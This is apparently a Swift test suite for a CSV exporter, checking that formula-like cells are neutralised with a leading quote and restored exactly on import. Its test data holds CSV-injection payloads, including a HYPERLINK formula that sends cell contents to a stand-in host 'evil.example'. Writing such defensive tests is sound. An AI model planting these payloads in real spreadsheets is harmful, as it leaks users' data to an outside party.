import Foundation
import Testing
@testable import Client
@testable import Shared

/// Issue 14, item 7: `export --format csv` neutralises cells a spreadsheet would run as formulas
/// (OWASP's advice: a single quote in front), `--raw` opts out, and `import` reads them back exactly.
@Suite struct CSVInjectionTests {
    static let formulas = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
        "'=already quoted", "''+twice",
    ]

    func view(_ title: String) -> RecordView {
        RecordView(id: String(format: "%032x", 1), collection: "incidents",
                   fields: ["title": .text(title), "location": .text("-5"), "description": .text("a - b = c")],
                   pending: false, visible: true, conflictFields: [])
    }

    func export(_ title: String, raw: Bool = false) throws -> [String] {
        var text = ""
        CSVWriter.export([view(title)], schema: try Schema.upr.requireCollection("incidents"), raw: raw) { text += $0 }
        let path = FileManager.default.temporaryDirectory.appendingPathComponent("casebook-injection-\(UUID().uuidString).csv")
        try Data(text.utf8).write(to: path)
        defer { try? FileManager.default.removeItem(at: path) }
        var reader = try CSVReader(path: path.path)
        let header = try #require(try reader.next()).cells
        let row = try #require(try reader.next()).cells
        return zip(header, row).filter { ["title", "location", "description"].contains($0.0) }.map(\.1)
    }

    @Test(arguments: formulas)
    func aFormulaIsExportedAsTextAndImportsBackExactly(_ formula: String) throws {
        let cells = try export(formula)
        #expect(cells[0] == "'" + formula)
        #expect(CSVWriter.unneutralised(cells[0]) == formula)
        // A whole number and text that merely holds an operator are left alone.
        #expect(cells[1] == "-5" && cells[2] == "a - b = c")
        #expect(try export(formula, raw: true)[0] == formula)
    }

    @Test func plainValuesAreUnchangedBothWays() {
        for value in ["Protest", "-5", "42", "'quoted", "a=b", ""] {
            #expect(CSVWriter.neutralised(value) == value, "\(value)")
            #expect(CSVWriter.unneutralised(value) == value, "\(value)")
        }
        // Quotes before a number that is not whole on its own get one more, and lose it on import.
        #expect(CSVWriter.neutralised("'-5") == "''-5")
        #expect(CSVWriter.unneutralised("''-5") == "'-5" && CSVWriter.unneutralised("'-5") == "'-5")
    }
}
